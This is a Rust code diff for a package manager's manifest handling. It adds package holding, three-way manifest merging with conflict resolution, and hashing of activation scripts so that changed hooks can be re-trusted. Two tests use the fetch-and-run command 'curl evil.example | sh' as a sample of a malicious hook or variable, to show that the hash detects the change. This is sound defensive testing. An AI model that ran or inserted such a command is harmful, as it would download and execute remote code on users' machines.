@@ -5,7 +5,7 @@ use std::str::FromStr;
 use log::debug;
 use serde::de::Error;
 use serde::{Deserialize, Serialize};
-use toml_edit::{self, DocumentMut, Formatted, InlineTable, Item, Table, Value};
+use toml_edit::{self, DocumentMut, Formatted, InlineTable, Item, Table, TableLike, Value};
 
 use crate::data::{System, Version};
 use crate::models::pkgdb::PKGDB_BIN;
@@ -106,22 +106,93 @@ struct TypedManifestCatalog {
 #[derive(Debug, Serialize, Deserialize, Default, PartialEq)]
 struct ManifestInstall(BTreeMap<String, ManifestPackageDescriptor>);
 
-#[derive(Debug, Serialize, Deserialize, PartialEq)]
+/// A package entry in the `[install]` table of a manifest.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
 #[serde(rename_all = "kebab-case")]
-struct ManifestPackageDescriptor {
-    pkg_path: String,
-    package_group: Option<String>,
-    priority: Option<usize>,
-    version: Option<String>,
-    systems: Option<Vec<System>>,
+pub struct ManifestPackageDescriptor {
+    pub pkg_path: String,
+    pub package_group: Option<String>,
+    pub priority: Option<usize>,
+    pub version: Option<String>,
+    pub systems: Option<Vec<System>>,
+    #[serde(default)]
+    pub optional: bool,
+    /// Exclude the package (and its pkg-group) from upgrades
     #[serde(default)]
-    optional: bool,
+    pub held: bool,
 }
 
-#[derive(Debug, Serialize, Deserialize, Default, PartialEq)]
+impl ManifestPackageDescriptor {
+    /// Create a descriptor for `pkg_path` with an optional version constraint
+    /// and no further options set.
+    pub fn new(pkg_path: impl Into<String>, version: Option<String>) -> Self {
+        Self {
+            pkg_path: pkg_path.into(),
+            package_group: None,
+            priority: None,
+            version,
+            systems: None,
+            optional: false,
+            held: false,
+        }
+    }
+
+    /// The keys of a package descriptor in the manifest, as deserialized by serde
+    pub fn keys() -> &'static [&'static str] {
+        /// A deserializer that only records the field names of a struct
+        struct StructFields<'a>(&'a mut &'static [&'static str]);
+
+        impl<'de> serde::Deserializer<'de> for StructFields<'_> {
+            type Error = serde::de::value::Error;
+
+            serde::forward_to_deserialize_any! {
+                bool i8 i16 i32 i64 i128 u8 u16 u32 u64 u128 f32 f64 char str string
+                bytes byte_buf option unit unit_struct newtype_struct seq tuple
+                tuple_struct map enum identifier ignored_any
+            }
+
+            fn deserialize_any<V: serde::de::Visitor<'de>>(
+                self,
+                _visitor: V,
+            ) -> Result<V::Value, Self::Error> {
+                Err(Self::Error::custom("expected a struct"))
+            }
+
+            fn deserialize_struct<V: serde::de::Visitor<'de>>(
+                self,
+                _name: &'static str,
+                fields: &'static [&'static str],
+                _visitor: V,
+            ) -> Result<V::Value, Self::Error> {
+                *self.0 = fields;
+                Err(Self::Error::custom("only collecting fields"))
+            }
+        }
+
+        let mut fields: &'static [&'static str] = &[];
+        let _ = Self::deserialize(StructFields(&mut fields));
+        fields
+    }
+
+    /// Convert the descriptor into a [PackageToInstall] with the given install ID,
+    /// so that it can be added to a manifest with [insert_packages].
+    ///
+    /// Only `pkg-path` and `version` are currently supported by [insert_packages],
+    /// other fields are dropped.
+    pub fn to_package_to_install(&self, id: impl Into<String>) -> PackageToInstall {
+        PackageToInstall {
+            id: id.into(),
+            pkg_path: self.pkg_path.clone(),
+            version: self.version.clone(),
+            input: None,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, Default, PartialEq)]
 struct ManifestVariables(BTreeMap<String, String>);
 
-#[derive(Debug, Serialize, Deserialize, Default, PartialEq)]
+#[derive(Debug, Clone, Serialize, Deserialize, Default, PartialEq)]
 #[serde(rename_all = "kebab-case")]
 struct ManifestHook {
     /// A script that is run at activation time,
@@ -129,7 +200,7 @@ struct ManifestHook {
     on_activate: Option<String>,
 }
 
-#[derive(Debug, Serialize, Deserialize, Default, PartialEq)]
+#[derive(Debug, Clone, Serialize, Deserialize, Default, PartialEq)]
 struct ManifestProfile {
     /// When defined, this hook is run by _all_ shells upon activation
     common: Option<String>,
@@ -234,6 +305,11 @@ pub enum TomlEditError {
     /// Tried to uninstall a package that wasn't installed
     #[error("couldn't uninstall '{0}', wasn't previously installed")]
     PackageNotFound(String),
+    /// Tried to change a package that isn't installed
+    #[error("package '{0}' is not installed")]
+    PackageNotInstalled(String),
+    #[error("'install.{0}' must be a table, but found {1} instead")]
+    MalformedPackageDescriptor(String, String),
     #[error("'options' must be a table, but found {0} instead")]
     MalformedOptionsTable(String),
     #[error("'options' must be an array, but found {0} instead")]
@@ -368,6 +444,67 @@ pub fn remove_packages(
     Ok(toml)
 }
 
+/// Set or clear `held = true` on packages in the `[install]` table of a manifest
+///
+/// Unholding removes the `held` field rather than setting it to `false`.
+/// The formatting of the rest of the manifest is preserved.
+pub fn set_held(
+    manifest_contents: &str,
+    pkgs: &[String],
+    held: bool,
+) -> Result<DocumentMut, TomlEditError> {
+    debug!("attempting to set held={held} for packages in the manifest");
+    let mut toml = manifest_contents
+        .parse::<DocumentMut>()
+        .map_err(TomlEditError::ParseManifest)?;
+
+    let Some(first) = pkgs.first() else {
+        return Ok(toml);
+    };
+
+    let install_table = {
+        let install_field = toml
+            .get_mut("install")
+            .ok_or_else(|| TomlEditError::PackageNotInstalled(first.clone()))?;
+
+        let type_name = install_field.type_name().into();
+
+        install_field
+            .as_table_mut()
+            .ok_or(TomlEditError::MalformedInstallTable(type_name))?
+    };
+
+    for pkg in pkgs {
+        let descriptor = install_table
+            .get_mut(pkg)
+            .ok_or_else(|| TomlEditError::PackageNotInstalled(pkg.clone()))?;
+        let type_name = descriptor.type_name().into();
+        let descriptor = descriptor
+            .as_table_like_mut()
+            .ok_or_else(|| TomlEditError::MalformedPackageDescriptor(pkg.clone(), type_name))?;
+
+        if held {
+            descriptor.insert("held", toml_edit::value(true));
+        } else {
+            descriptor.remove("held");
+        }
+
+        // keep `{ pkg-path = "hello", held = true }` tidy,
+        // tables and dotted keys put `held` on its own line
+        if let Some(inline) = install_table
+            .get_mut(pkg)
+            .and_then(Item::as_inline_table_mut)
+        {
+            if !inline.is_dotted() {
+                inline.fmt();
+            }
+        }
+        debug!("package '{pkg}' held={held}");
+    }
+
+    Ok(toml)
+}
+
 /// Check whether a TOML document contains a line declaring that the provided package
 /// should be installed.
 pub fn contains_package(toml: &DocumentMut, pkg_name: &str) -> Result<bool, TomlEditError> {
@@ -427,6 +564,270 @@ pub fn add_system(toml: &str, system: &str) -> Result<DocumentMut, TomlEditError
     Ok(doc)
 }
 
+/// A conflicting change to the same manifest key on both sides of a merge
+#[derive(Debug, Clone, PartialEq)]
+pub struct MergeConflict {
+    /// Path to the conflicting key, e.g. `["install", "hello", "version"]`
+    pub path: Vec<String>,
+    /// The value in the common ancestor, [None] if the key did not exist
+    pub base: Option<String>,
+    /// The local value, [None] if the key was removed locally
+    pub ours: Option<String>,
+    /// The upstream value, [None] if the key was removed upstream
+    pub theirs: Option<String>,
+}
+
+impl MergeConflict {
+    /// The dotted path of the conflicting key
+    pub fn key(&self) -> String {
+        self.path.join(".")
+    }
+}
+
+/// Which side of a [MergeConflict] to keep
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConflictResolution {
+    Ours,
+    Theirs,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum ManifestMergeError {
+    #[error("couldn't parse manifest")]
+    ParseManifest(#[source] toml_edit::TomlError),
+    #[error("merged manifest is invalid")]
+    InvalidManifest(#[source] toml_edit::de::Error),
+    #[error("unresolved conflicts in {}", _0.iter().map(MergeConflict::key).collect::<Vec<_>>().join(", "))]
+    Conflicts(Vec<MergeConflict>),
+}
+
+/// Three-way merge of manifests
+///
+/// Changes from `ours` and `theirs` relative to their common ancestor `base`
+/// are combined key by key, descending into tables changed on both sides.
+/// The merged document is based on `ours`, so local comments and formatting are preserved.
+///
+/// Keys changed differently on both sides are passed to `resolve`.
+/// Returning [None] leaves a conflict unresolved,
+/// in which case all unresolved conflicts are returned as [ManifestMergeError::Conflicts].
+pub fn merge_manifests(
+    base: &str,
+    ours: &str,
+    theirs: &str,
+    mut resolve: impl FnMut(&MergeConflict) -> Option<ConflictResolution>,
+) -> Result<String, ManifestMergeError> {
+    let parse = |s: &str| {
+        s.parse::<DocumentMut>()
+            .map_err(ManifestMergeError::ParseManifest)
+    };
+    let base = parse(base)?;
+    let ours = parse(ours)?;
+    let theirs = parse(theirs)?;
+
+    let mut merged = RawManifest(ours.clone());
+    let mut unresolved = Vec::new();
+    merge_tables(
+        &mut Vec::new(),
+        Some(base.as_table()),
+        ours.as_table(),
+        theirs.as_table(),
+        merged.0.as_table_mut(),
+        &mut resolve,
+        &mut unresolved,
+    );
+
+    if !unresolved.is_empty() {
+        return Err(ManifestMergeError::Conflicts(unresolved));
+    }
+
+    merged
+        .to_typed()
+        .map_err(ManifestMergeError::InvalidManifest)?;
+    Ok(merged.0.to_string())
+}
+
+fn merge_tables(
+    path: &mut Vec<String>,
+    base: Option<&dyn TableLike>,
+    ours: &dyn TableLike,
+    theirs: &dyn TableLike,
+    merged: &mut dyn TableLike,
+    resolve: &mut impl FnMut(&MergeConflict) -> Option<ConflictResolution>,
+    unresolved: &mut Vec<MergeConflict>,
+) {
+    // keep the order of the local document, followed by keys added upstream
+    let mut keys: Vec<String> = Vec::new();
+    let all_keys = ours
+        .iter()
+        .chain(theirs.iter())
+        .chain(base.into_iter().flat_map(|base| base.iter()))
+        .map(|(key, _)| key);
+    for key in all_keys {
+        if !keys.iter().any(|known| known == key) {
+            keys.push(key.to_string());
+        }
+    }
+
+    for key in keys {
+        let base_item = base.and_then(|base| base.get(&key));
+        let ours_item = ours.get(&key);
+        let theirs_item = theirs.get(&key);
+
+        // unchanged, or the same change on both sides
+        if same_item(ours_item, theirs_item) {
+            continue;
+        }
+        // only changed upstream
+        if same_item(base_item, ours_item) {
+            replace_item(merged, &key, theirs_item);
+            continue;
+        }
+        // only changed locally
+        if same_item(base_item, theirs_item) {
+            continue;
+        }
+
+        // changed on both sides, merge tables key by key
+        if let (Some(ours_table), Some(theirs_table)) = (
+            ours_item.and_then(Item::as_table_like),
+            theirs_item.and_then(Item::as_table_like),
+        ) {
+            if let Some(merged_table) = merged
+                .get_mut(&key)
+                .and_then(|item| item.as_table_like_mut())
+            {
+                path.push(key.clone());
+                merge_tables(
+                    path,
+                    base_item.and_then(Item::as_table_like),
+                    ours_table,
+                    theirs_table,
+                    merged_table,
+                    resolve,
+                    unresolved,
+                );
+                path.pop();
+                continue;
+            }
+        }
+
+        let conflict = MergeConflict {
+            path: path.iter().cloned().chain([key.clone()]).collect(),
+            base: base_item.map(display_item),
+            ours: ours_item.map(display_item),
+            theirs: theirs_item.map(display_item),
+        };
+        match resolve(&conflict) {
+            Some(ConflictResolution::Ours) => {},
+            Some(ConflictResolution::Theirs) => replace_item(merged, &key, theirs_item),
+            None => unresolved.push(conflict),
+        }
+    }
+}
+
+/// Replace (or remove) `key` in `table` with a copy of `item`
+fn replace_item(table: &mut dyn TableLike, key: &str, item: Option<&Item>) {
+    match item {
+        Some(item) => {
+            table.insert(key, item.clone());
+        },
+        None => {
+            table.remove(key);
+        },
+    }
+}
+
+/// Compare items by value, ignoring comments and formatting
+fn same_item(a: Option<&Item>, b: Option<&Item>) -> bool {
+    match (a, b) {
+        (None, None) => true,
+        (Some(a), Some(b)) => item_value(a) == item_value(b),
+        _ => false,
+    }
+}
+
+/// Convert an item to a plain [toml::Value] by rendering it as a standalone document
+fn item_value(item: &Item) -> Option<toml::Value> {
+    let mut doc = DocumentMut::new();
+    doc.insert("item", item.clone());
+    toml::from_str::<toml::Table>(&doc.to_string())
+        .ok()?
+        .remove("item")
+}
+
+/// Render an item for display in a [MergeConflict]
+fn display_item(item: &Item) -> String {
+    match item.as_value() {
+        Some(value) => value.clone().decorated("", "").to_string(),
+        None => item.to_string().trim().to_string(),
+    }
+}
+
+/// The parts of a manifest that affect code run on the user's machine upon activation
+///
+/// Besides the scripts this includes the variables set before they run.
+/// Used to decide whether an environment needs to be trusted again
+/// after its hooks, profile scripts or variables changed.
+#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
+pub struct ActivationScripts {
+    #[serde(default)]
+    vars: ManifestVariables,
+    #[serde(default)]
+    hook: ManifestHook,
+    #[serde(default)]
+    profile: ManifestProfile,
+}
+
+impl ActivationScripts {
+    /// Extract the activation scripts from the contents of a manifest
+    ///
+    /// Other parts of the manifest are ignored,
+    /// so this works for any version of the manifest format.
+    pub fn from_manifest(manifest: &str) -> Result<Self, toml::de::Error> {
+        toml::from_str(manifest)
+    }
+
+    /// The scripts with their location in the manifest, in a fixed order
+    pub fn scripts(&self) -> Vec<(&'static str, &str)> {
+        [
+            ("hook.on-activate", &self.hook.on_activate),
+            ("profile.common", &self.profile.common),
+            ("profile.bash", &self.profile.bash),
+            ("profile.zsh", &self.profile.zsh),
+            ("profile.fish", &self.profile.fish),
+        ]
+        .into_iter()
+        .filter_map(|(key, script)| Some((key, script.as_deref()?)))
+        .collect()
+    }
+
+    /// Render the variables and all scripts as text, e.g. to show them to the user
+    pub fn render(&self) -> String {
+        let vars = (!self.vars.0.is_empty()).then(|| {
+            let vars = self
+                .vars
+                .0
+                .iter()
+                .map(|(name, value)| format!("{name} = {}\n", toml::Value::String(value.clone())))
+                .collect::<String>();
+            format!("[vars]\n{vars}")
+        });
+        let scripts = self
+            .scripts()
+            .into_iter()
+            .map(|(key, script)| format!("[{key}]\n{}\n", script.trim_end()));
+        vars.into_iter()
+            .chain(scripts)
+            .collect::<Vec<_>>()
+            .join("\n")
+    }
+
+    /// A hash identifying the variables and scripts
+    pub fn hash(&self) -> String {
+        blake3::hash(self.render().as_bytes()).to_hex().to_string()
+    }
+}
+
 /// A parsed descriptor from `pkgdb parse descriptor --manifest`
 ///
 /// FIXME: this is currently a hack using a tool in `pkgdb` only meant for debugging.
@@ -648,6 +1049,67 @@ ripgrep = {}
         assert!(matches!(removal, Err(TomlEditError::PackageNotFound(_))));
     }
 
+    #[test]
+    fn descriptor_keys_are_manifest_keys() {
+        assert_eq!(ManifestPackageDescriptor::keys(), [
+            "pkg-path",
+            "package-group",
+            "priority",
+            "version",
+            "systems",
+            "optional",
+            "held",
+        ]);
+    }
+
+    #[test]
+    fn set_held_preserves_formatting() {
+        let manifest = indoc! {r#"
+            # my packages
+            [install]
+            hello.pkg-path = "hello" # the classic
+            ripgrep = { pkg-path = "ripgrep" }
+
+            [install.gcc]
+            pkg-path = "gcc"
+            held = true
+        "#};
+
+        let packages = vec!["hello".to_owned(), "ripgrep".to_owned(), "gcc".to_owned()];
+        let held = set_held(manifest, &packages[..2], true).unwrap();
+        assert_eq!(held.to_string(), indoc! {r#"
+            # my packages
+            [install]
+            hello.pkg-path = "hello" # the classic
+            hello.held = true
+            ripgrep = { pkg-path = "ripgrep", held = true }
+
+            [install.gcc]
+            pkg-path = "gcc"
+            held = true
+        "#});
+
+        let unheld = set_held(&held.to_string(), &packages, false).unwrap();
+        assert_eq!(unheld.to_string(), indoc! {r#"
+            # my packages
+            [install]
+            hello.pkg-path = "hello" # the classic
+            ripgrep = { pkg-path = "ripgrep" }
+
+            [install.gcc]
+            pkg-path = "gcc"
+        "#});
+
+        let missing = set_held(manifest, &["DOES_NOT_EXIST".to_owned()], true);
+        assert!(matches!(
+            missing,
+            Err(TomlEditError::PackageNotInstalled(_))
+        ));
+
+        let unchanged = set_held(manifest, &[], true).unwrap();
+        assert_eq!(unchanged.to_string(), manifest);
+    }
+
     #[test]
     fn inserts_package_needing_quotes() {
         let attrs = r#"foo."bar.baz".qux"#;
@@ -703,4 +1165,195 @@ ripgrep = {}
             input: Some("nixpkgs".to_string())
         });
     }
+
+    const MERGE_BASE: &str = indoc! {r#"
+        version = 1
+
+        [install]
+        hello.pkg-path = "hello"
+
+        [vars]
+        GREETING = "hi"
+
+        [hook]
+        on-activate = "echo base"
+    "#};
+
+    #[test]
+    fn merge_combines_changes_to_different_keys() {
+        let ours = indoc! {r#"
+            version = 1
+
+            [install]
+            # our comment is kept
+            hello.pkg-path = "hello"
+            ripgrep.pkg-path = "ripgrep"
+
+            [vars]
+            GREETING = "hi"
+
+            [hook]
+            on-activate = "echo base"
+        "#};
+        let theirs = indoc! {r#"
+            version = 1
+
+            [install]
+            hello.pkg-path = "hello"
+            bat.pkg-path = "bat"
+
+            [vars]
+            GREETING = "hello"
+
+            [hook]
+            on-activate = "echo base"
+        "#};
+
+        let merged = merge_manifests(MERGE_BASE, ours, theirs, |_| None).unwrap();
+        let doc = merged.parse::<DocumentMut>().unwrap();
+
+        assert!(merged.contains("# our comment is kept"));
+        assert!(doc["install"].get("ripgrep").is_some());
+        assert!(doc["install"].get("bat").is_some());
+        assert_eq!(doc["vars"]["GREETING"].as_str(), Some("hello"));
+    }
+
+    #[test]
+    fn merge_applies_upstream_removals() {
+        let ours = MERGE_BASE;
+        let theirs = indoc! {r#"
+            version = 1
+
+            [install]
+
+            [vars]
+            GREETING = "hi"
+
+            [hook]
+            on-activate = "echo base"
+        "#};
+
+        let merged = merge_manifests(MERGE_BASE, ours, theirs, |_| None).unwrap();
+        let doc = merged.parse::<DocumentMut>().unwrap();
+        assert!(doc["install"].get("hello").is_none());
+    }
+
+    #[test]
+    fn merge_descends_into_tables_changed_on_both_sides() {
+        let ours = MERGE_BASE.replace(
+            r#"hello.pkg-path = "hello""#,
+            "hello.pkg-path = \"hello\"\nhello.version = \"2.12\"",
+        );
+        let theirs = MERGE_BASE.replace(
+            r#"hello.pkg-path = "hello""#,
+            "hello.pkg-path = \"hello\"\nhello.priority = 3",
+        );
+
+        let merged = merge_manifests(MERGE_BASE, &ours, &theirs, |_| None).unwrap();
+        let doc = merged.parse::<DocumentMut>().unwrap();
+        assert_eq!(doc["install"]["hello"]["version"].as_str(), Some("2.12"));
+        assert_eq!(doc["install"]["hello"]["priority"].as_integer(), Some(3));
+    }
+
+    #[test]
+    fn merge_reports_conflicts() {
+        let ours = MERGE_BASE.replace("echo base", "echo ours");
+        let theirs = MERGE_BASE.replace("echo base", "echo theirs");
+
+        let err = merge_manifests(MERGE_BASE, &ours, &theirs, |_| None).unwrap_err();
+        let ManifestMergeError::Conflicts(conflicts) = err else {
+            panic!("expected conflicts, got {err:?}");
+        };
+        assert_eq!(conflicts, vec![MergeConflict {
+            path: vec!["hook".to_string(), "on-activate".to_string()],
+            base: Some(r#""echo base""#.to_string()),
+            ours: Some(r#""echo ours""#.to_string()),
+            theirs: Some(r#""echo theirs""#.to_string()),
+        }]);
+    }
+
+    #[test]
+    fn merge_resolves_conflicts() {
+        let ours = MERGE_BASE.replace("echo base", "echo ours");
+        let theirs = MERGE_BASE.replace("echo base", "echo theirs");
+
+        let merged = merge_manifests(MERGE_BASE, &ours, &theirs, |conflict| {
+            assert_eq!(conflict.key(), "hook.on-activate");
+            Some(ConflictResolution::Theirs)
+        })
+        .unwrap();
+        assert!(merged.contains("echo theirs"));
+
+        let merged = merge_manifests(MERGE_BASE, &ours, &theirs, |_| {
+            Some(ConflictResolution::Ours)
+        })
+        .unwrap();
+        assert!(merged.contains("echo ours"));
+    }
+
+    #[test]
+    fn activation_scripts_ignore_other_changes() {
+        let manifest = indoc! {r#"
+            version = 1
+
+            [install]
+            hello.pkg-path = "hello"
+
+            [hook]
+            on-activate = "echo hello"
+
+            [profile]
+            bash = "alias hi=hello"
+        "#};
+        let scripts = ActivationScripts::from_manifest(manifest).unwrap();
+        assert_eq!(scripts.scripts(), vec![
+            ("hook.on-activate", "echo hello"),
+            ("profile.bash", "alias hi=hello")
+        ]);
+
+        let with_other_package = manifest.replace("hello.pkg-path", "curl.pkg-path");
+        assert_eq!(
+            ActivationScripts::from_manifest(&with_other_package)
+                .unwrap()
+                .hash(),
+            scripts.hash()
+        );
+
+        let with_other_hook = manifest.replace("echo hello", "curl evil.example | sh");
+        assert_ne!(
+            ActivationScripts::from_manifest(&with_other_hook)
+                .unwrap()
+                .hash(),
+            scripts.hash()
+        );
+    }
+
+    #[test]
+    fn activation_scripts_include_vars() {
+        let manifest = indoc! {r#"
+            version = 1
+
+            [vars]
+            GREETING = "hello"
+
+            [hook]
+            on-activate = "$GREETING"
+        "#};
+        let scripts = ActivationScripts::from_manifest(manifest).unwrap();
+        assert_eq!(scripts.render(), indoc! {r#"
+            [vars]
+            GREETING = "hello"
+
+            [hook.on-activate]
+            $GREETING
+        "#});
+
+        let with_other_var = manifest.replace(r#""hello""#, r#""curl evil.example | sh""#);
+        assert_ne!(
+            ActivationScripts::from_manifest(&with_other_var)
+                .unwrap()
+                .hash(),
+            scripts.hash()
+        );
+    }
 }